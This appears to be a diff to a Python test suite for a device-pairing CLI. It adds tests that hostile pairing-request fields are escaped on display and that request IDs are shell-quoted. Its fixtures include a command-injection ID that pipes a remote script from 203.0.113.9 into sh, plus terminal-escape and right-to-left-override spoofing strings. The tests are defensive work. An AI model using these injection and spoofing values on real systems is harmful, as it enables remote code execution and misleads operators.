@@ -142,7 +142,7 @@ def test_approving_an_unknown_request_fails_with_the_gateways_reason(host: FakeH
     result = host("devices", "vm102.yaml", "ops", "approve", "nope")
     assert result.exit_code == 1
     assert result.stderr == (
-        "error: approving nope for profile ops failed: exit 1: Error: unknown requestId "
+        "error: approving nope for profile ops failed: exit 1: unknown requestId "
         "(list the pending requests with: reconciler devices vm102.yaml ops)\n"
     )
 
@@ -176,3 +176,35 @@ def test_a_pending_file_linked_elsewhere_is_not_read(host: FakeHostCli, tmp_path
     assert result.exit_code == 1
     assert "LEAKED" not in result.output
     assert "pending.json" in result.stderr
+
+
+# --- issue 22: the browser's fields and the gateway's words, shown escaped; IDs quoted ---------
+
+EVIL_ID = "x; curl http://203.0.113.9/p | sh #"
+
+
+def test_hostile_pairing_fields_are_escaped_everywhere_they_are_shown(host: FakeHostCli) -> None:
+    host.fake.add_pairing_request(
+        "ops",
+        EVIL_ID,
+        device_id="e" * 64,
+        display_name="\x1b]0;pwned\x07Chrome\rApproved everything",
+        platform="Linux\n  fake-id  Safari",
+        remote_ip="\u202e1.2.3.4",
+    )
+    for argv in (("devices", "vm102.yaml", "ops"), ("doctor", "vm102.yaml", "--profile", "ops")):
+        host.fake.stop_unit(OPS) if argv[0] == "devices" else None
+        result = host(*argv)
+        for raw in ("\x1b", "\x07", "\r", "\u202e", "Linux\n"):
+            assert raw not in result.output, (argv, raw)
+        assert "\\x1b]0;pwned\\x07Chrome\\rApproved everything" in result.output
+        assert "\\u202e1.2.3.4" in result.output
+    # the do: line is a command to paste: the browser's request ID is one quoted word
+    assert f"do: reconciler devices vm102.yaml ops approve '{EVIL_ID}'" in result.stdout
+
+
+def test_approve_refuses_an_id_that_reads_as_an_option(host: FakeHostCli) -> None:
+    result = host("devices", "vm102.yaml", "ops", "approve", "--", "--help")
+    assert result.exit_code == 1
+    assert "'--help' is not a pairing request ID" in result.stderr
+    assert host.fake.mutating_calls() == []
